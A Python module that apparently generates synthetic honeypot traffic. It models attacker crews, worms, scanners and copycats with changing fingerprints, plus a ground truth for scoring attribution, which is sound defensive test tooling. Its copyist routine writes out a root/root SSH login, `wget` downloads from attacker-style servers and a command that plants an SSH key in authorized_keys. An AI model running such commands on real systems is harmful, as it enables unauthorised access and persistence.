# SPDX-License-Identifier: MIT
"""A third world: marks wear out in time, whichever address shows them, and a visit shows what its purpose takes.

In `generator` and `second` an address has marks; here an actor has them, and replaces each after a while of its own, so
what links two addresses is what was valid at both times. An actor has several addresses at once. A visit guesses
passwords, works in a shell, drops a program, comes over HTTP or Redis: it shows no more, and sometimes nothing.

Crews have a playbook, a malware family, servers that follow each other, and targets; servers of a hoster that does not
ask are used by several crews and singles at once. Insiders log in with the key of somebody else.
"""

from __future__ import annotations

from collections.abc import Iterator
from random import Random
from typing import NamedTuple

from decnet_core.events.catalogue import CertificateProbed, CommandRun, LoginAttempt, Payload, TlsProbed
from decnet_core.events.envelope import Event
from planted import arsenal, trades
from planted.arsenal import HOUR, WORN_OUT, Client, Key, Marks, hexadecimal, word
from planted.files import Truth
from planted.visits import Acts, Visit, Written, new_address

BEGIN = 1_770_000_000_000_000_000
SPAN = 75 * 24.0
"""Hours."""
JOBS = {
    "guesser": {"guess": 6, "shell": 1},
    "miner": {"guess": 1, "shell": 3, "drop": 4},
    "hand": {"shell": 4, "web": 1},
    "web": {"web": 5, "drop": 1},
    "redis": {"redis": 4, "web": 1, "guess": 1},
}
"""By trade, what visits are for, and how often."""
ADDRESSES = (1, 1, 2, 2, 3, 4, 5, 7, 9, 12, 18, 30)
DEFAULT_CERTIFICATE = "87f2085c32b6a2cc709b365f55873e207a9caa10bffecf2fd16d3cf9d94d390c"
DEFAULT_JARM = "07d14d16d21d21d07c42d41d00041d24a458a375eef0c576d23a7bab9a9fb1"
NETWORKS = (8, 14, 27, 36, 43, 58, 64, 91, 106, 121, 143, 162, 188, 193, 201, 212)
WRITTEN = Written("third", "third ", (5_000_000, 4_000_000_000), ("sensor-0", "sensor-1", "sensor-2"), 30_000)


class Crew(NamedTuple):
    """Actors that act together."""

    name: str
    playbook: tuple[str, ...]
    family: str
    servers: tuple[str, ...]
    """One after the other."""
    deckies: tuple[str, ...]
    start: float
    end: float

    def server(self, hour: float) -> str:
        place = int(len(self.servers) * (hour - self.start) / (self.end - self.start))
        return self.servers[min(len(self.servers) - 1, max(0, place))]


class Actor:
    """Somebody, with what they have at each time."""

    def __init__(self, dice: Random, crew: Crew | None, servers: list[str]) -> None:
        self.crew, self.trade = crew, dice.choice(tuple(JOBS))
        self.name = f"{self.trade}-{word(dice)}-{dice.getrandbits(32):x}"
        if crew:
            self.start = dice.uniform(crew.start, (crew.start + crew.end) / 2)
            self.end = crew.end
        else:
            self.start = dice.uniform(0, SPAN - 300)
            self.end = min(SPAN, self.start + dice.uniform(60, 1100))
        self.deckies = crew.deckies if crew else tuple(f"d{dice.randrange(60)}" for _ in range(dice.randrange(1, 9)))
        self._playbook = crew.playbook if crew else arsenal.playbook(dice)
        self._directory = arsenal.directory(dice)
        self._servers = servers
        self._own = dice.choice((0.0, 0.1, 0.3))
        self.insider: Key | None = None
        self._eras: list[tuple[float, Marks]] = []
        marks, hour = self._new(dice), self.start
        left = {name: dice.expovariate(1 / mean) for name, mean in WORN_OUT.items()}
        while hour < self.end:
            self._eras.append((hour, marks))
            first = min(left, key=lambda name: left[name])
            step = left[first]
            hour += step
            left = {name: rest - step for name, rest in left.items()} | {first: dice.expovariate(1 / WORN_OUT[first])}
            marks = marks._replace(**{first: getattr(self._new(dice), first)})

    def _new(self, dice: Random) -> Marks:
        client = arsenal.any_client(dice, self._own)
        return Marks(
            arsenal.key(dice),
            dice.choice(self._servers) if dice.random() < 0.15 else arsenal.domain(dice),
            hexadecimal(dice, 64),
            arsenal.words(dice),
            arsenal.habit(dice, self._playbook, self._directory),
            client,
            client.agent,
            hexadecimal(dice, 64) if dice.random() < 0.5 else DEFAULT_CERTIFICATE,
        )

    def at(self, hour: float) -> Marks:
        """Return what it has at a time."""
        return [marks for since, marks in self._eras if since <= hour or since == self.start][-1]

    def url(self, hour: float, number: int) -> str:
        marks, crew = self.at(hour), self.crew
        ours = crew is not None and Random(f"{marks.build} {self.name}").random() < 0.7
        host = crew.server(hour) if crew and ours else marks.host
        family = crew.family if crew else self._directory.rpartition(".")[2]
        return f"http://{host}/{family}/{marks.build[: 3 + number % 2]}"

    def acts(self, hour: float, job: str, number: int) -> Acts:
        """Return what a visit for a job consists of."""
        marks, url = self.at(hour), self.url(hour, number)
        key = self.insider if self.insider and number % 2 else marks.key
        make = {
            "guess": trades.guess,
            "shell": trades.shell,
            "drop": trades.drop,
            "web": trades.web,
            "redis": trades.redis,
        }[job]

        def acts(dice: Random) -> Iterator[Payload]:
            yield from make(dice, trades.Equipment(marks, key, url))
            if self.trade in ("hand", "miner") and dice.random() < 0.25:
                yield CertificateProbed(BEGIN + int(hour * HOUR), marks.certificate, subject="CN=x")
                default = marks.certificate == DEFAULT_CERTIFICATE
                yield TlsProbed(BEGIN + int(hour * HOUR), DEFAULT_JARM if default else marks.certificate[:62])

        return acts


class ThirdWorld:
    """Visits in the order of time, and the truth about their addresses."""

    def __init__(self, attackers: int, seed: int) -> None:
        self._dice = dice = Random(f"third {seed} of {attackers}")
        self._seed, self._visits, self._used = seed, list[Visit](), set[str]()
        self.truth = Truth({}, {}, [], {})
        self._bulletproof = [arsenal.domain(dice) for _ in range(2 + attackers // 1000)]
        self._actors: list[Actor] = []
        while len(self._used) < attackers * 0.4:
            self._people()
        for _ in range(max(2, attackers // 150)):
            self._shared_address()
        self._worms(int(attackers * 0.2))
        while len(self._used) < attackers:
            self._stranger()
        self._visits.sort(key=lambda visit: (visit.ts, visit.number))

    def events(self) -> Iterator[Event]:
        """Yield the events, visit by visit."""
        return WRITTEN.events(self._seed, self._visits)

    def _address(self) -> str:
        return new_address(self._dice, NETWORKS, self._used)

    def _come(self, one: str, hour: float, decky: str, acts: Acts) -> None:
        self._visits.append(Visit(BEGIN + int(hour * HOUR), len(self._visits), one, decky, acts))

    def _people(self) -> None:
        dice = self._dice
        if self._actors and dice.random() < 0.5:  # there is at least one crew
            self._lives(Actor(dice, None, self._bulletproof))
            return
        start = dice.uniform(0, SPAN - 800)
        servers = [arsenal.domain(dice) for _ in range(dice.randrange(1, 5))]
        if dice.random() < 0.25:
            servers[0] = dice.choice(self._bulletproof)
        deckies = tuple(dict.fromkeys(f"d{dice.randrange(60)}" for _ in range(dice.randrange(2, 7))))
        named = f"crew-{word(dice)}-{len(self._used)}"
        end = start + dice.uniform(200, 800)
        crew = Crew(named, arsenal.playbook(dice), word(dice), tuple(servers), deckies, start, end)
        for _ in range(dice.randrange(2, 7)):
            self._lives(Actor(dice, crew, self._bulletproof))

    def _lives(self, actor: Actor) -> None:
        """Let an actor come from its addresses, some of them at once."""
        dice = self._dice
        if self._actors and dice.random() < 0.05:
            actor.insider = dice.choice(self._actors).at(actor.start).key
        self._actors.append(actor)
        jobs, often = zip(*JOBS[actor.trade].items(), strict=True)
        for _ in range(dice.choice(ADDRESSES)):
            one = self._address()
            since = dice.uniform(actor.start, actor.end)
            until = min(actor.end, since + dice.expovariate(1 / 60))
            self.truth.identities[one] = actor.name
            kind = ", insider" if actor.insider else ", crew" if actor.crew else ""
            self.truth.populations[one] = f"{actor.trade}{kind}"
            if actor.crew:
                self.truth.campaigns[one] = actor.crew.name
            for number in range(dice.choice((1, 1, 2, 2, 3, 4))):
                hour = dice.uniform(since, until)
                job = dice.choices(jobs, often)[0]
                self._come(one, hour, dice.choice(actor.deckies), actor.acts(hour, job, number))

    def _shared_address(self) -> None:
        """An exit of a VPN or a carrier: several actors and many strangers; nobody's, so not scored."""
        dice, one = self._dice, self._address()
        for actor in dice.sample(self._actors, min(len(self._actors), dice.randrange(2, 9))):
            hour = dice.uniform(actor.start, actor.end)
            job = dice.choice(tuple(JOBS[actor.trade]))
            self._come(one, hour, dice.choice(actor.deckies), actor.acts(hour, job, 0))
        for _ in range(dice.randrange(2, 12)):
            self._come(
                one, dice.uniform(0, SPAN), f"d{dice.randrange(60)}", trades.stock(dice, arsenal.any_client(dice, 0))
            )

    def _worms(self, attackers: int) -> None:
        """Commodity malware: variants of a public source with lists, loaders and a key that all of a variant plant."""
        dice, left = self._dice, attackers
        while left > 0:
            size = min(left, max(25, int(attackers * dice.uniform(0.05, 0.4))))
            left -= size
            variant = trades.Worm(dice)
            for _ in range(size):
                one = self._address()
                if variant.telnet:  # who plants a key has the device, so those of the others may be called one actor's
                    self.truth.identities[one] = f"worm {one}"
                    self.truth.populations[one] = "worm"
                    self.truth.unscored.append(one)
                self._come(one, dice.uniform(0, SPAN), f"d{dice.randrange(60)}", variant.acts)

    def _stranger(self) -> None:
        dice, one = self._dice, self._address()
        kind = dice.choices(("stock", "scanner", "script", "copyist"), (45, 30, 24, 1))[0]
        self.truth.identities[one] = f"{kind} {one}"
        self.truth.populations[one] = kind
        client = arsenal.any_client(dice, 0)
        acts: Acts = {
            "stock": trades.stock(dice, client),
            "scanner": lambda dice: trades.scan(dice, client),
            "script": lambda dice: trades.published(dice, client),
            "copyist": self._copyist(client),
        }[kind]
        for _ in range(dice.randrange(1, 4)):
            self._come(one, dice.uniform(0, SPAN), f"d{dice.randrange(60)}", acts)

    def _copyist(self, client: Client) -> Acts:
        """Somebody who has read reports: the URLs of some and the key of another."""
        dice = self._dice
        *some, other = dice.sample(self._actors, min(len(self._actors), 3))
        urls, key = [one.url(one.start, 0) for one in some], other.at(other.start).key

        def acts(_: Random) -> Iterator[Payload]:
            yield from trades.arrive(client)
            yield LoginAttempt("ssh", "root", True, password="root")
            yield from (CommandRun("ssh", f"wget {url}") for url in urls)
            yield CommandRun("ssh", f"mkdir -p ~/.ssh; echo '{key.line}' >> ~/.ssh/authorized_keys")

        return acts
